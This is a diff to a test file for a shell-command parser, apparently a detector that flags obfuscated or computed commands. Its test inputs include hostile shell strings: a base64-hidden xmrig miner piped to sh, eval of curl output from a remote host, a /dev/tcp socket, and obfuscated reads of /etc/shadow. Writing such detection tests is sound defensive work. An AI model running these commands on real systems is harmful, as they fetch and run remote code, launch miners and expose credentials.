@@ -57,10 +57,15 @@ describe('ShellParser', () => {
       ["$'\\170mrig' -o p", ['xmrig -o p']],
       ['bash <<< "xmrig -o p"', ['bash', 'xmrig -o p']],
       ['echo eG1yaWcgLW8gcA== | base64 -d | sh', ['echo eG1yaWcgLW8gcA==', 'base64 -d', 'sh', '?? a shell reads its commands from a pipe: sh']],
-      ['bash -c "$(echo eG1yaWc= | base64 -d)"', ['echo eG1yaWc=', 'base64 -d', 'bash -c «"$(echo eG1yaWc= | base64 -d)"»', '?? computed script for bash: "$(echo eG1yaWc= | base64 -d)"']],
+      // a computed double-quoted script is also read as written: its substitution shows twice
+      [
+        'bash -c "$(echo eG1yaWc= | base64 -d)"',
+        ['echo eG1yaWc=', 'base64 -d', 'bash -c «"$(echo eG1yaWc= | base64 -d)"»', 'echo eG1yaWc=', 'base64 -d', '?? computed script for bash: "$(echo eG1yaWc= | base64 -d)"', '?? computed program: $(echo eG1yaWc= | base64 -d)'],
+      ],
+      ['timeout 1 bash -c "exec 3<>/dev/tcp/$h/$p"', ['timeout 1 » bash -c «"exec 3<>/dev/tcp/$h/$p"»', 'exec', '?? computed script for bash: "exec 3<>/dev/tcp/$h/$p"', '?? syntax error: exec 3<>/dev/tcp/$h/$p']],
       ['cat${IFS}/etc/shadow', ['?? computed program: cat${IFS}/etc/shadow']],
       ['IFS=,; x=xmrig,-o,p; $x', ['?? computed program: $x']],
-      ['eval "$(curl -s http://h/x)"', ['curl -s http://h/x', 'eval «"$(curl -s http://h/x)"»', '?? computed script for eval: "$(curl -s http://h/x)"']],
+      ['eval "$(curl -s http://h/x)"', ['curl -s http://h/x', 'eval «"$(curl -s http://h/x)"»', 'curl -s http://h/x', '?? computed script for eval: "$(curl -s http://h/x)"', '?? computed program: $(curl -s http://h/x)']],
       ['{x,m}rig', ['?? syntax error: {x,m}rig']],
       ['x{,}mrig -o p', ['?? computed program: x{,}mrig -o p']],
       ['/???/?at /etc/shadow', ['?? computed program: /???/?at /etc/shadow']],
